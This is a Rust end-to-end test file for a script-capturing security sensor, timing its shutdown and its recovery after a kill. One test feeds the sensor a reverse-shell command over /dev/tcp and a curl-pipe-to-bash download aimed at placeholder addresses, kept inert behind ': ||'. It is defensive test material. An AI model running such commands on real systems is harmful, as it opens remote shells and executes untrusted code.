//! The sensor ends in time, and the next one sees scripts soon: with many probed shells and many findings that wait.
//!
//! The long form (`cargo xtask test siege`) does it with 1,024 shells and 10,000 findings.

use std::{
    fs,
    path::Path,
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use e2e::{
    node::Node,
    outcome::bytes,
    shell::{self, quiet},
};

/// A stop takes at most so long; Kubernetes kills after 30 s.
const STOP: Duration = Duration::from_secs(5);
/// And what comes after a kill is seen after so long at most.
const BLIND: Duration = Duration::from_secs(1);
/// What a test's machine may need on top.
const SLACK: Duration = Duration::from_secs(2);

fn is_long() -> bool {
    std::env::var("SCRIPTWATCH_TEST_CHAOS").is_ok_and(|form| form == "long")
}

/// Runs shells that were never seen before, each a file of its own.
fn run_copies(dir: &Path, count: usize) {
    for number in 0..count {
        let copy = dir.join(format!("bash-{number}"));
        fs::copy("/bin/bash", &copy).expect("a copy");
        assert!(quiet(&copy).args(["-c", ":"]).status().expect("a shell").success());
    }
}

#[test]
fn a_stop_is_quick_and_loses_nothing_however_much_waits() {
    let (copies, findings) = if is_long() { (1024, 10_000) } else { (40, 300) };
    let mut node = Node::start(&[]).expect("a node");
    run_copies(node.dir.path(), copies);
    node.wait_until(|| node.reading("shell_binaries_probed").is_ok_and(|probed| probed >= copies as u64))
        .expect("they are probed");
    node.collector.kill().expect("a kill");
    // Each string that bash evaluates is a script of its own.
    let text = format!(
        "i=0; while [ $i -lt {findings} ]; do i=$((i+1)); \
         eval \": || bash -i >& /dev/tcp/192.0.2.1/$i 0>&1; : || curl -s http://192.0.2.7/$i | bash\"; done"
    );
    shell::run("/bin/bash", &["-c", &text]).expect("a shell");
    node.wait_until(|| node.reading("findings_spooled_total").is_ok_and(|n| n >= findings))
        .expect("findings");
    let begun = Instant::now();
    node.sensor.stop().expect("its end");
    let took = begun.elapsed();
    eprintln!("{copies} probed shells and {findings} findings: ended after {took:?}");
    assert!(took < STOP, "{took:?}");
    let port: u16 = fs::read_to_string(node.path("port")).expect("a port").parse().expect("a number");
    node.collector = e2e::collectors::start(node.dir.path(), port).expect("a collector").0;
    node.restart_sensor().expect("a sensor");
    // The script that evaluates them is one more.
    let stored = node.wait_for(|all| all.len() as u64 > findings).expect("they are delivered").len() as u64;
    assert_eq!(stored, findings + 1);
}

#[test]
fn after_a_kill_scripts_are_seen_again_within_a_second() {
    let rounds = if is_long() { 20 } else { 3 };
    let mut node = Node::start(&[]).expect("a node");
    let mut times = Vec::new();
    for round in 0..rounds {
        let begun = Instant::now();
        node.sensor.kill().expect("a kill");
        // As a supervisor does, at once.
        let is_over = AtomicBool::new(false);
        std::thread::scope(|threads| {
            threads.spawn(|| {
                while !is_over.load(Ordering::Relaxed) {
                    let at = begun.elapsed().as_millis();
                    shell::run("/bin/dash", &["-c", &format!(": at {at}")]).expect("a shell");
                    std::thread::sleep(Duration::from_millis(5));
                }
            });
            node.restart_sensor().expect("a sensor");
            shell::run("/bin/dash", &["-c", ": the last"]).expect("a shell");
            is_over.store(true, Ordering::Relaxed);
        });
        // It writes what it recorded.
        node.sensor.stop().expect("its end");
        let record = fs::read_to_string(node.path("record.jsonl")).expect("captures");
        let first = record
            .lines()
            .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
            .filter_map(|c| {
                let text = bytes(&c["content"]);
                String::from_utf8_lossy(text.strip_prefix(b": at ")?).parse::<u64>().ok()
            })
            .min()
            .map(Duration::from_millis)
            .expect("a capture");
        eprintln!("round {round}: the first script that was seen began {first:?} after the kill");
        times.push(first);
        node.restart_sensor().expect("a sensor");
    }
    times.sort();
    assert!(times[rounds / 2] < BLIND + SLACK, "{times:?}");
}
